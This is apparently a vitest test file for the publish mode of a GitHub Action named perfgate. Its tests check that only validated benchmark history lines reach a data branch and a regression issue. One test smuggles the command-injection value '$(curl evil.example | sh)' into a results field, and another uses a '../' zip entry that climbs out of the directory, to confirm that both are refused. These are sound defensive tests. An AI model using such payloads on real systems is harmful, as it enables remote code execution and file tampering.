import { strToU8, zipSync } from 'fflate'
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import * as path from 'node:path'
import { afterAll, afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import { recorded, reset } from './support/core-fake.js'
import { FakeGitHub } from './support/fake-github.js'
import { historyLine } from './support/history-line.js'

vi.mock('@actions/core', () => import('./support/core-fake.js'))
// Mode publish with this action's real engine (the suite's one build,
// copied where the mode would build it fresh: support/shared-engine.ts)
// and the fake API: what it writes comes only from the artifacts'
// validated history lines, and a hostile artifact writes nothing.
vi.mock('../src/engine.js', async (original) => (await import('./support/shared-engine.js')).withSharedEngine(await original()))

const { runPublish } = await import('../src/publish.js')
const { getInputs } = await import('../src/inputs.js')

const tmp = mkdtempSync(path.join(tmpdir(), 'perfgate-publish-'))
afterAll(() => rmSync(tmp, { recursive: true, force: true }))
const event = { name: 'schedule', owner: 'acme', repo: 'shop', sha: 'a'.repeat(40), defaultBranch: 'main', pushedBranch: '' }
const inputs = (values: Record<string, string> = {}) => getInputs((name) => ({ token: 't0ken', mode: 'publish', ...values })[name] ?? '')

const before = 'b'.repeat(40)
const after = 'c'.repeat(40)
/** confirmed is a confirmation line of an allocs regression at after, as perfgate trend writes it. */
function confirmed(overrides: Record<string, unknown> = {}): string {
  return JSON.stringify({
    schema: 1,
    kind: 'confirmation',
    id: `allocs||${before}|${after}`,
    config: 'perfgate',
    metric: 'allocs',
    machine: '',
    before,
    after,
    time: '2026-11-02T03:30:00Z',
    status: 'confirmed',
    commit: after,
    estimate: 0.3,
    ci: [0.25, 0.35],
    ci_level: 0.95,
    outcome: 'regression',
    gates: 1,
    results: `confirm/${before.slice(0, 7)}-${after.slice(0, 7)}`,
    ...overrides,
  })
}
/** trendJson is a trend.json's part that publish reads: the config name and settings. */
const trendJson = JSON.stringify({
  schema: 1,
  config: 'perfgate',
  settings: {
    alpha: 0.001,
    min_magnitude: 0.01,
    min_segment: 4,
    confirm: true,
    budget: 3,
    gate: { cpu: '5%', allocs: '5%', bytes: '5%', errors: '0%', alpha: 0.05, goroutines: 0, heap: '0', latency: '0%' },
  },
})

/** artifacts makes the run's record and trend artifacts with those files. */
function artifacts(record: Record<string, string> | undefined, trend: Record<string, string> | undefined): void {
  const list = []
  for (const [id, name, files] of [
    [1, 'perfgate-results-attempt-1', record],
    [2, 'perfgate-results-trend-attempt-1', trend],
  ] as const) {
    if (!files) continue
    const zip = zipSync(Object.fromEntries(Object.entries(files).map(([k, v]) => [k, strToU8(v)])))
    list.push({ id, name, sizeInBytes: zip.byteLength, zip })
  }
  gh.artifacts.set(4242, list)
}

let gh: FakeGitHub
beforeEach(async () => {
  reset()
  gh = new FakeGitHub()
  await gh.start()
  Object.assign(process.env, {
    GITHUB_API_URL: gh.url,
    RUNNER_TEMP: tmp,
    GITHUB_WORKSPACE: tmp,
    GITHUB_RUN_ID: '4242',
    GITHUB_RUN_ATTEMPT: '1',
  })
})
afterEach(async () => {
  await gh.stop()
  expect(gh.problems).toEqual([])
})

const branchLines = (): string[] => (gh.git.files('perfgate-data')?.['history/perfgate.jsonl'] ?? '').trim().split('\n').filter(Boolean)

describe('mode publish', () => {
  it('adds the entry and the confirmations to the branch and opens the issue from the rebuilt alarm', async () => {
    artifacts(
      { 'history-entry.json': historyLine('tonight') },
      { 'history-records.jsonl': confirmed() + '\n', 'trend.json': trendJson, 'alarm.md': 'ignored' },
    )
    await runPublish(inputs(), event)
    expect(branchLines().map((l) => (JSON.parse(l) as { kind: string }).kind)).toEqual(['entry', 'confirmation'])
    expect(gh.issues).toHaveLength(1)
    expect(gh.issues[0].title).toMatch(/perfgate: allocs regressed \+30(\.0)?% at c{7}/)
    expect(gh.issues[0].body.split('\n')[0]).toBe('<!-- perfgate-trend: perfgate -->')
    // The links name the trend artifact of this run, not anything the artifact said.
    expect(gh.issues[0].body).toContain('perfgate-results-trend-attempt-1')
    expect(gh.issues[0].body).not.toContain('ignored')
    expect(recorded.outputs.alarm).toBe('open')
  })

  it('writes nothing when a history line is not one perfgate writes', async () => {
    const hostile = confirmed({ results: '$(curl evil.example | sh)' })
    artifacts({ 'history-entry.json': historyLine('tonight') }, { 'history-records.jsonl': hostile + '\n', 'trend.json': trendJson })
    await expect(runPublish(inputs(), event)).rejects.toThrow(/perfgate history add exited 2: .*results/)
    expect(gh.git.files('perfgate-data')).toBeUndefined()
    expect(gh.issues).toEqual([])
  })

  it('writes nothing from a trend.json whose settings perfgate never writes', async () => {
    artifacts(undefined, { 'history-records.jsonl': confirmed() + '\n', 'trend.json': trendJson.replace('"alpha":0.001', '"alpha":0.9') })
    await expect(runPublish(inputs(), event)).rejects.toThrow(/perfgate trend --settings-from exited 2/)
    expect(gh.git.files('perfgate-data')).toBeUndefined()
    expect(gh.issues).toEqual([])
  })

  it('refuses an artifact whose entries climb out of the directory', async () => {
    const zip = zipSync({ '../history-entry.json': strToU8(historyLine('tonight')) })
    gh.artifacts.set(4242, [{ id: 1, name: 'perfgate-results-attempt-1', sizeInBytes: zip.byteLength, zip }])
    await expect(runPublish(inputs(), event)).rejects.toThrow(/refusing the results artifact: entry "..\/history-entry.json" climbs out/)
  })

  it('takes the newest attempt up to its own, and says what is missing when nothing was uploaded', async () => {
    gh.artifacts.set(4242, [])
    await expect(runPublish(inputs(), event)).rejects.toThrow(
      /run 4242 has no artifact named perfgate-results-attempt-N or perfgate-results-trend-attempt-N: mode publish runs after mode record and mode trend/,
    )
  })

  it('runs only where a nightly runs, and only with the history on a branch', async () => {
    await expect(runPublish(inputs(), { ...event, name: 'pull_request' })).rejects.toThrow(/not under pull_request/)
    await expect(runPublish(inputs({ history: 'none' }), event)).rejects.toThrow(/'history' is none/)
    await expect(runPublish(inputs({ history: 'perf/history' }), event)).rejects.toThrow(/'history' is the directory perf\/history/)
  })
})
